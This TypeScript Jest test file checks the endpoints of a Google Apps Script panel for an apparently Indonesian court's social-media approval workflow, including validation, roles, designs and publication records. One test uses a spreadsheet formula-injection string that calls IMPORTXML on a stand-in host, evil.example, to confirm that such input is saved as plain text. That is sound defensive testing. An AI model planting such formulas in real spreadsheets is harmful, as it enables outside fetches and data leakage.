/**
 * The panel's endpoints on the built script in the sandbox, called the way the sidebar calls them
 * (google.script.run rules: arguments and results must be plain values, so a Date in a result
 * would arrive as null).
 */
import type { Sandbox } from '../../sandbox/src/sandbox';
import { callFromClient } from '../../sandbox/src/script-run';
import type { ApiError, PanelConcept, PanelDesign, PanelMonth, PanelTask, PendingDecision, Result, SubmitApprovalValue } from '../../src/shared/contract';
import { addPeople, KABAG, KASUBBAG, newWorkbook, records, setSetting, STAFF, STAFF2, TAB, decideAs, viaSubmitPage } from './helpers';

function call<T>(sb: Sandbox, user: string, fn: string, arg: unknown): Result<T> {
  const r = callFromClient(sb, fn, [arg], user);
  if (!r.ok) throw new Error(`${fn} failed in the platform: ${r.error.message}`);
  if (r.value === null) throw new Error(`${fn} returned a value google.script.run cannot carry`);
  // A staff member's submission goes on through the submission page (the owner's web app).
  return viaSubmitPage(sb, user, r.value as never) as Result<T>;
}
function ok<T>(sb: Sandbox, user: string, fn: string, arg: unknown): T {
  const r = call<T>(sb, user, fn, arg);
  if (!r.ok) throw new Error(`${fn}: ${r.error.code} ${r.error.message} ${JSON.stringify(r.error.details ?? [])}`);
  return r.value;
}
function fail(sb: Sandbox, user: string, fn: string, arg: unknown): ApiError {
  const r = call<unknown>(sb, user, fn, arg);
  if (r.ok) throw new Error(`${fn} succeeded unexpectedly`);
  return r.error;
}

const P = '2026-05';
const concept = (over: Partial<Record<string, unknown>> = {}) => ({
  period: P,
  date: '2026-05-12',
  activity: 'Sidang pengucapan putusan perkara 12/PUU-XXIV/2026',
  category: 'Putusan',
  platforms: ['Instagram', 'X'],
  pic: STAFF,
  description: 'Ringkasan putusan dalam carousel dan utas.',
  ...over,
});

function setup(): Sandbox {
  const sb = newWorkbook();
  addPeople(sb);
  return sb;
}

/** Two plan items submitted and approved by both heads (policy berurutan). */
function approvedMonth(sb: Sandbox): PanelConcept[] {
  const a = ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept());
  const b = ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ date: '2026-05-20', activity: 'Kunjungan mahasiswa', platforms: ['YouTube'] }));
  ok<SubmitApprovalValue>(sb, STAFF, 'apiSubmitConcept', { period: P });
  for (const who of [KASUBBAG, KABAG]) {
    const pending = ok<PendingDecision[]>(sb, who, 'apiPendingDecisions', {});
    expect(pending).toHaveLength(1);
    expect(decideAs(sb, who, { requestId: pending[0].requestId, decisions: pending[0].items.map((i) => ({ itemId: i.id, decision: 'approve' })) }).ok).toBe(true);
  }
  return [a, b];
}

describe('plan items (step 2)', () => {
  test('staff add items: ids from the K sequence, Draf, version 1, a Log entry each; the month shows them', () => {
    const sb = setup();
    const a = ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept());
    const b = ok<PanelConcept>(sb, STAFF2, 'apiSaveConcept', concept({ date: '2026-05-03', activity: 'Kunjungan', platforms: ['TikTok'], pic: STAFF2 }));
    expect([a.id, b.id]).toEqual(['K-0001', 'K-0002']);
    expect(a).toMatchObject({ status: 'Draf', version: 1, date: '2026-05-12', period: P, platforms: ['Instagram', 'X'], picName: 'Staf PNS' });
    // In the sheet, Status and Versi stay blank (Draf, version 1): they are the owner's record.
    const rows = records(sb, TAB.konsep);
    expect(rows.map((r) => [r.ID, r.Status, r.Versi, r.Periode])).toEqual([
      ['K-0001', '', '', P],
      ['K-0002', '', '', P],
    ]);
    const log = records(sb, TAB.log).filter((r) => r.Aksi === 'Tambah konsep');
    expect(log.map((r) => r.Objek)).toEqual(['K-0001', 'K-0002']);
    expect(log[0].Pengguna).toBe(STAFF);
    const month = ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P });
    expect(month.concepts.map((c) => c.id)).toEqual(['K-0002', 'K-0001']); // by date
    expect(month.stages.map((s) => s.step)).toEqual([2, 2]);
    expect(month.copyLimits.X).toBe(280);
    expect(ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: '2026-06' }).concepts).toEqual([]);
  });

  test('text that looks like a formula is stored as text', () => {
    const sb = setup();
    ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ activity: '=IMPORTXML("http://evil.example","//a")', description: '+62 812 555' }));
    const row = records(sb, TAB.konsep)[0];
    expect(row['Kegiatan/Informasi']).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(row.Deskripsi).toBe('+62 812 555');
    const month = ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P });
    expect(month.concepts[0].activity).toBe('=IMPORTXML("http://evil.example","//a")');
    // Editing ANOTHER row writes only that row: the first row's text stays text.
    const b = ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ activity: 'Kedua' }));
    ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ id: b.id, activity: 'Kedua, diubah', description: '@mkri' }));
    const rows = records(sb, TAB.konsep);
    expect(rows.map((r) => [r['Kegiatan/Informasi'], r.Deskripsi])).toEqual([
      ['=IMPORTXML("http://evil.example","//a")', '+62 812 555'],
      ['Kedua, diubah', '@mkri'],
    ]);
  });

  test('content problems come back per field, in the user language, and nothing is written', () => {
    const sb = setup();
    const before = records(sb, TAB.konsep).length;
    const e = fail(sb, STAFF, 'apiSaveConcept', concept({ date: '2026-06-01', activity: '', description: 'x'.repeat(5001), pic: 'nobody@example.org', platforms: ['Friendster'] }));
    expect(e.code).toBe('VALIDATION');
    const fields = (e.details ?? []).map((d) => d.field).sort();
    expect(fields).toEqual(['activity', 'date', 'description', 'pic', 'platforms']);
    const byField = Object.fromEntries((e.details ?? []).map((d) => [d.field, d.message]));
    expect(byField.description).toMatch(/5001.*5000/);
    expect(byField.date).toMatch(/Mei 2026/);
    expect(records(sb, TAB.konsep)).toHaveLength(before);
    const bad = fail(sb, STAFF, 'apiSaveConcept', concept({ date: '2026-02-30' }));
    expect(bad.details?.[0]).toMatchObject({ field: 'date' });
  });

  test('wrong shapes are BAD_REQUEST: wrong types, unknown keys, bad periods, unknown ids', () => {
    const sb = setup();
    expect(fail(sb, STAFF, 'apiSaveConcept', concept({ platforms: 'Instagram' })).code).toBe('BAD_REQUEST');
    expect(fail(sb, STAFF, 'apiSaveConcept', concept({ activity: 42 })).code).toBe('BAD_REQUEST');
    expect(fail(sb, STAFF, 'apiSaveConcept', { ...concept(), extra: 1 }).code).toBe('BAD_REQUEST');
    expect(fail(sb, STAFF, 'apiSaveConcept', concept({ period: '2026-13' })).code).toBe('BAD_REQUEST');
    expect(fail(sb, STAFF, 'apiSaveConcept', concept({ id: 'K-9999' })).code).toBe('NOT_FOUND');
    expect(fail(sb, STAFF, 'apiPanelMonth', { period: 'Mei' }).code).toBe('BAD_REQUEST');
    expect(fail(sb, STAFF, 'apiPanelMonth', null).code).toBe('BAD_REQUEST');
  });

  test('only staff draft; an item under review cannot be edited; a revised item can', () => {
    const sb = setup();
    expect(fail(sb, KABAG, 'apiSaveConcept', concept()).code).toBe('FORBIDDEN');
    const a = ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept());
    const edited = ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ id: a.id, activity: 'Diubah' }));
    expect(edited).toMatchObject({ id: 'K-0001', activity: 'Diubah', status: 'Draf' });
    expect(records(sb, TAB.konsep)).toHaveLength(1);
    ok(sb, STAFF, 'apiSubmitConcept', { period: P });
    const e = fail(sb, STAFF, 'apiSaveConcept', concept({ id: a.id, activity: 'Lagi' }));
    expect(e.code).toBe('CONFLICT');
    expect(e.message).toMatch(/sedang ditinjau/);
    expect(records(sb, TAB.konsep)[0]['Kegiatan/Informasi']).toBe('Diubah');
    // Sent back: editable again, and the task list shows the feedback.
    const pending = ok<PendingDecision[]>(sb, KASUBBAG, 'apiPendingDecisions', {});
    expect(decideAs(sb, KASUBBAG, { requestId: pending[0].requestId, decisions: [{ itemId: a.id, decision: 'revise', feedback: 'Tambahkan nomor perkara.' }] }).ok).toBe(true);
    const tasks = ok<PanelTask[]>(sb, STAFF, 'apiMyTasks', {});
    expect(tasks[0]).toMatchObject({ kind: 'concept-revise', id: a.id, feedback: 'Tambahkan nomor perkara.' });
    expect(ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ id: a.id, activity: 'Putusan 12/PUU' })).status).toBe('Perlu Revisi');
    expect(ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P }).stages[0].step).toBe(2);
  });
});

describe('decisions (steps 3 and 5)', () => {
  test("a request's card names the items its approver is the PIC of (recused), which she does not decide; the other approver's card has none", () => {
    const sb = setup();
    setSetting(sb, 'kebijakan_persetujuan', 'salah-satu');
    ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept());
    ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ date: '2026-05-14', activity: 'Kunjungan mahasiswa', pic: KASUBBAG }));
    ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept({ date: '2026-05-20', activity: 'Seminar konstitusi', pic: KASUBBAG }));
    ok<SubmitApprovalValue>(sb, STAFF, 'apiSubmitConcept', { period: P });
    const hers = ok<PendingDecision[]>(sb, KASUBBAG, 'apiPendingDecisions', {});
    expect(hers.map((p) => [p.items.map((i) => i.id), p.recused])).toEqual([[['K-0001'], ['K-0002', 'K-0003']]]);
    const his = ok<PendingDecision[]>(sb, KABAG, 'apiPendingDecisions', {});
    expect(his.map((p) => p.items.map((i) => i.id))).toEqual([['K-0001', 'K-0002', 'K-0003']]);
    expect(his[0].recused).toBeUndefined();
    // The Kabag decides K-0002: her card still names K-0003 only.
    expect(decideAs(sb, KABAG, { requestId: 'P-0001', decisions: [{ itemId: 'K-0002', decision: 'approve' }] }).ok).toBe(true);
    expect(ok<PendingDecision[]>(sb, KASUBBAG, 'apiPendingDecisions', {})[0].recused).toEqual(['K-0003']);
  });
});

describe('designs (step 4) and publications (step 6)', () => {
  test('over-long X copy is saved as a draft but blocked on submit; fixed, it goes through', () => {
    const sb = setup();
    const [a] = approvedMonth(sb);
    const month = ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P });
    expect(month.concepts.map((c) => c.status)).toEqual(['Disetujui', 'Disetujui']);
    expect(month.stages[0]).toMatchObject({ step: 4, standardMinutes: 3600, overdue: false });
    const long = `${'Putusan MK hari ini menegaskan hak konstitusional warga. '.repeat(6)}#PutusanMK`;
    const d = ok<PanelDesign>(sb, STAFF, 'apiSaveDesign', { conceptId: a.id, platform: 'X', link: 'https://drive.google.com/file/d/x1/view', title: '', copy: long });
    expect(d).toMatchObject({ id: 'D-0001', status: 'Draf', version: 1, platform: 'X' });
    expect(d.copyCheck).toMatch(/Melebihi batas/);
    const blocked = fail(sb, STAFF, 'apiSubmitDesigns', { ids: [d.id] });
    expect(blocked.code).toBe('VALIDATION');
    expect(records(sb, TAB.desain)[0].Status).toBe(''); // Draf: nothing submitted
    const fixed = ok<PanelDesign>(sb, STAFF, 'apiSaveDesign', { id: d.id, conceptId: a.id, platform: 'X', link: 'https://drive.google.com/file/d/x1/view', title: '', copy: 'Putusan MK hari ini. #PutusanMK https://mkri.id/putusan/12' });
    expect(fixed.copyCheck).toMatch(/^OK/);
    const sent = ok<SubmitApprovalValue>(sb, STAFF, 'apiSubmitDesigns', { ids: [d.id] });
    expect(sent.items).toEqual([d.id]);
    expect(ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P }).designs[0].status).toBe('Diajukan');
    // A second design for the same platform is refused; editing a submitted design too.
    expect(fail(sb, STAFF, 'apiSaveDesign', { conceptId: a.id, platform: 'X', link: 'https://x.example/a', title: '', copy: 'x' }).code).toBe('CONFLICT');
    expect(fail(sb, STAFF, 'apiSaveDesign', { id: d.id, conceptId: a.id, platform: 'X', link: 'https://x.example/a', title: '', copy: 'x' }).code).toBe('CONFLICT');
    // A platform the plan item does not have, a bad link, too-long copy.
    expect(fail(sb, STAFF, 'apiSaveDesign', { conceptId: a.id, platform: 'TikTok', link: 'https://x.example/a', title: '', copy: 'x' }).code).toBe('VALIDATION');
    const e = fail(sb, STAFF, 'apiSaveDesign', { conceptId: a.id, platform: 'Instagram', link: 'drive/file', title: '', copy: 'y'.repeat(10001) });
    expect((e.details ?? []).map((x) => x.field).sort()).toEqual(['copy', 'link']);
  });

  test('a design of a plan item that is not approved is refused', () => {
    const sb = setup();
    const a = ok<PanelConcept>(sb, STAFF, 'apiSaveConcept', concept());
    const e = fail(sb, STAFF, 'apiSaveDesign', { conceptId: a.id, platform: 'X', link: 'https://x.example/a', title: '', copy: 'x' });
    expect(e.code).toBe('CONFLICT');
    expect(fail(sb, STAFF, 'apiSaveDesign', { conceptId: 'K-0404', platform: 'X', link: 'https://x.example/a', title: '', copy: 'x' }).code).toBe('NOT_FOUND');
  });

  test('publication: only approved designs, a real link, a time not in the future; then the item is done', () => {
    const sb = setup();
    const [, b] = approvedMonth(sb);
    const d = ok<PanelDesign>(sb, STAFF, 'apiSaveDesign', { conceptId: b.id, platform: 'YouTube', link: 'https://drive.google.com/file/d/yt/view', title: 'Kunjungan mahasiswa ke MK', copy: 'Mahasiswa belajar hukum acara MK.' });
    expect(fail(sb, STAFF, 'apiRecordPublication', { designId: d.id, url: 'https://youtu.be/abc', publishedAt: '2026-04-06T08:00' }).code).toBe('CONFLICT');
    ok(sb, STAFF, 'apiSubmitDesigns', { ids: [d.id] });
    for (const who of [KASUBBAG, KABAG]) {
      const p = ok<PendingDecision[]>(sb, who, 'apiPendingDecisions', {});
      expect(decideAs(sb, who, { requestId: p[0].requestId, decisions: [{ itemId: d.id, decision: 'approve' }] }).ok).toBe(true);
    }
    let month = ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P });
    expect(month.stages.find((s) => s.conceptId === b.id)).toMatchObject({ step: 6, standardMinutes: 90 });
    const e = fail(sb, STAFF, 'apiRecordPublication', { designId: d.id, url: 'youtu.be abc', publishedAt: '2026-04-07T08:00' });
    expect((e.details ?? []).map((x) => x.field).sort()).toEqual(['publishedAt', 'url']);
    expect(fail(sb, STAFF, 'apiRecordPublication', { designId: d.id, url: 'https://youtu.be/abc', publishedAt: '2026-04-31T08:00' }).details?.[0].field).toBe('publishedAt');
    expect(fail(sb, STAFF, 'apiRecordPublication', { designId: d.id, url: 'https://youtu.be/abc', publishedAt: 5 }).code).toBe('BAD_REQUEST');
    const rec = ok<PanelDesign>(sb, STAFF, 'apiRecordPublication', { designId: d.id, url: 'https://youtu.be/abc', publishedAt: '2026-04-06T08:30' });
    expect(rec.publication).toEqual({ url: 'https://youtu.be/abc', at: '2026-04-06T01:30:00.000Z' });
    // Recording again updates the one row.
    ok(sb, STAFF, 'apiRecordPublication', { designId: d.id, url: 'https://youtu.be/def', publishedAt: '2026-04-06T08:45' });
    const pubs = records(sb, 'Publikasi');
    expect(pubs).toHaveLength(1);
    expect(pubs[0]).toMatchObject({ 'ID Desain': d.id, Platform: 'YouTube', 'Tautan Postingan': 'https://youtu.be/def', 'Dicatat Oleh': STAFF });
    month = ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P });
    expect(month.stages.find((s) => s.conceptId === b.id)).toMatchObject({ step: null, done: true });
    expect(records(sb, TAB.log).filter((r) => r.Langkah === '6').map((r) => r.Aksi)).toEqual(['Catat publikasi', 'Ubah catatan publikasi']);
  });
});

describe('strategy (step 1)', () => {
  test('the heads write directions and report links; staff see them with the month', () => {
    const sb = setup();
    const reports = { analisisMedia: 'https://drive.google.com/a', diseminasiPerkara: '', auditKehumasan: 'https://drive.google.com/c', referensi: 'Humas MA, KY' };
    expect(fail(sb, STAFF, 'apiSaveStrategy', { period: P, directions: [], reports }).code).toBe('FORBIDDEN');
    const r = ok<{ saved: number }>(sb, KABAG, 'apiSaveStrategy', { period: P, directions: [{ platform: 'Instagram', text: 'Carousel putusan.' }, { platform: 'X', text: '=utas' }, { platform: 'TikTok', text: '' }], reports });
    expect(r.saved).toBe(2);
    ok(sb, KASUBBAG, 'apiSaveStrategy', { period: P, directions: [{ platform: 'Instagram', text: 'Carousel dan Reels.' }], reports });
    const rows = records(sb, TAB.strategi);
    expect(rows.map((x) => [x.Platform, x.Arahan])).toEqual([
      ['Instagram', 'Carousel dan Reels.'],
      ['X', '=utas'],
    ]);
    const month = ok<PanelMonth>(sb, STAFF, 'apiPanelMonth', { period: P });
    expect(month.strategy.map((s) => s.platform)).toEqual(['Instagram', 'X']);
    expect(month.reports).toEqual(reports);
    const e = fail(sb, KABAG, 'apiSaveStrategy', { period: P, directions: [{ platform: 'Instagram', text: 'z'.repeat(5001) }], reports: { ...reports, referensi: 'r'.repeat(2001) } });
    expect((e.details ?? []).map((x) => x.field).sort()).toEqual(['directions.Instagram', 'reports.referensi']);
    expect(fail(sb, KABAG, 'apiSaveStrategy', { period: P, directions: [{ platform: 'Instagram' }], reports }).code).toBe('BAD_REQUEST');
  });
});

describe('language', () => {
  test('messages follow settings.lang', () => {
    const sb = setup();
    const { editCell } = jest.requireActual('../../sandbox/src/actions') as typeof import('../../sandbox/src/actions');
    const rows = records(sb, TAB.pengaturan);
    const i = rows.findIndex((r) => r.Kunci === 'bahasa');
    editCell(sb, KABAG, TAB.pengaturan, `B${i + 2}`, 'en');
    const e = fail(sb, STAFF, 'apiSaveConcept', concept({ activity: '' }));
    expect(e.message).toMatch(/Not saved/);
    expect(e.details?.[0].message).toMatch(/Activity\/Information is empty/);
  });
});
